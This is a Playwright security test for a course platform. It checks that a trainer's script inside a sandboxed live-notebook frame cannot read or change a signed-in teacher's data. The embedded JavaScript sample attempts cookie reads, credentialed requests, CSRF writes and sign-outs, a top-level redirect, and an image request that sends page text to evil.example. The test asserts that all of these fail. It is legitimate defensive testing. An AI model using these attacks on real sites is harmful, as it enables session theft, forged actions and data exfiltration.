"""S8, live pages' part: what a trainer's script in a frame tries, it neither reads nor writes.

It runs in the browser of a teacher who is signed in, beside her answers, and may use all that a
frame may: ask, send, open other frames and windows, and work through a window of its own origin,
which has no policy of a live page.
"""

import json
from contextlib import closing
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Request
from sqlalchemy import select

from store.clock import now
from store.database import Database
from store.tables import Answer
from tests.conftest import ClientFor, SignIn, Stack
from tests.journeys.acting import publish, someone
from tests.publishing.writing import IMPORT, code, reflection, words, write_course

pytestmark = [pytest.mark.bar, pytest.mark.timeout(300)]

COURSE = "hostile"
ANSWER = f"api/courses/{COURSE}/spare-time/answers/use-it"
SCRIPT = """
document.querySelector("#go").onclick = async () => {
  const own = open("/services/classroom/health")  // of its own origin, without a page's policy
  const portal = PORTAL, save = portal + "ANSWER", body = JSON.stringify(BODY)
  const tried = (window.tried = { cookies: document.cookie })
  const json = { method: "PUT", credentials: "include", body,
    headers: { "Content-Type": "application/json", "X-Pathshala": "1" } }
  const plain = { method: "POST", mode: "no-cors", credentials: "include", body }
  const pause = () => new Promise((over) => setTimeout(over, 2000))
  const attempt = async (name, act) => {
    try { tried[name] = String((await act()) ?? "") } catch { tried[name] = "" }
  }
  const textOf = async (asked) => (await asked).text()
  await attempt("ask", () => textOf(fetch(portal + "api/me", { credentials: "include" })))
  await attempt("ask at once", () => {
    const asked = new XMLHttpRequest()
    asked.open("GET", portal + "api/me", false)
    asked.withCredentials = true
    asked.send()
    return asked.responseText
  })
  await attempt("frame", async () => {
    const frame = document.createElement("iframe")
    frame.src = portal + "api/me"
    document.body.append(frame)
    await pause()
    return frame.contentDocument.body.textContent
  })
  await attempt("page around", () => top.document.body.textContent)
  await attempt("address around", () => parent.location.href)
  await attempt("leave", () => { top.location = "https://evil.example/"; return "" })
  await attempt("own window", () =>
    textOf(own.fetch(portal + "api/me", { credentials: "include" })))
  for (const [name, window] of [["here", self], ["there", own]]) {
    await attempt("save " + name, () => textOf(window.fetch(save, json)))
    await attempt("send " + name, () => textOf(window.fetch(save, plain)))
    await attempt("sign out " + name, () => textOf(window.fetch(portal + "sign-out", plain)))
    await attempt("beacon " + name, () => { window.navigator.sendBeacon(save, body) })
  }
  await attempt("window", async () => {
    own.location = portal + "api/me"
    await pause()
    return own.document.body.textContent
  })
  const form = document.createElement("form")
  Object.assign(form, { method: "POST", action: portal + "sign-out", target: "_blank" })
  document.body.append(form)
  form.submit()
  new Image().src = "https://evil.example/" + encodeURIComponent(document.body.textContent)
  await pause()
  tried.over = "yes"
}
"""


def test_a_trainers_script_neither_reads_nor_writes(
    stack: Stack, browser: Browser, sign_in: SignIn, client_for: ClientFor, tmp_path: Path
) -> None:
    person = client_for("teacher").get("api/me").json()["id"]
    moment = now().isoformat()
    body = {"person": person, "device": "a-frame", "sequence": 1, "value": "not hers"}
    body |= {"edited_at": moment, "sent_at": moment}
    script = SCRIPT.replace("PORTAL", json.dumps(stack.portal_url)).replace("ANSWER", ANSWER)
    html = f"<button id=go>go</button><script>{script.replace('BODY', json.dumps(body))}</script>"
    shows = f"from IPython.display import HTML\nHTML({html!r})"
    cells = (IMPORT, words("# পাতা"), code(shows), reflection(), code("HandIn()"))
    publish(stack, write_course(tmp_path, *cells, course=COURSE))

    teacher = someone(browser, sign_in, stack, "teacher", "bn")
    asked: list[Request] = []

    def note(request: Request) -> None:
        asked.append(request)

    teacher.page.context.on("request", note)
    teacher.open(f"courses/{COURSE}/spare-time")
    frame = teacher.page.frame_locator("iframe.live-frame")
    frame.get_by_text("go").click(timeout=60_000)
    [inner] = [each for each in teacher.page.frames if "/live/" in each.url]
    inner.wait_for_function("window.tried?.over", timeout=60_000)
    tried = inner.evaluate("tried")

    assert tried.pop("over") == "yes" and len(tried) == 17
    assert len(teacher.page.context.pages) == 2, "it had a window"
    cookies = tried.pop("cookies")
    assert not [name for name in ("session", "service-", "jupyterhub") if name in cookies]
    assert {name: said for name, said in tried.items() if said} == {}
    assert f"/courses/{COURSE}/" in teacher.page.url
    assert {each.failure for each in asked if "evil.example" in each.url} <= {"csp"}
    url = f"sqlite:///{stack.data / 'pathshala.sqlite'}"
    with closing(Database(url)) as database, database.read() as session:
        kept = session.scalars(select(Answer.id).where(Answer.device == "a-frame")).all()
    assert kept == []
    teacher.page.reload()  # she is signed in still
    teacher.reflect("use-it", "ক্লাসে আজ সবাই একবার করে কথা বলেছে, পেছনের বেঞ্চের দুজনও।")
    teacher.page.context.close()
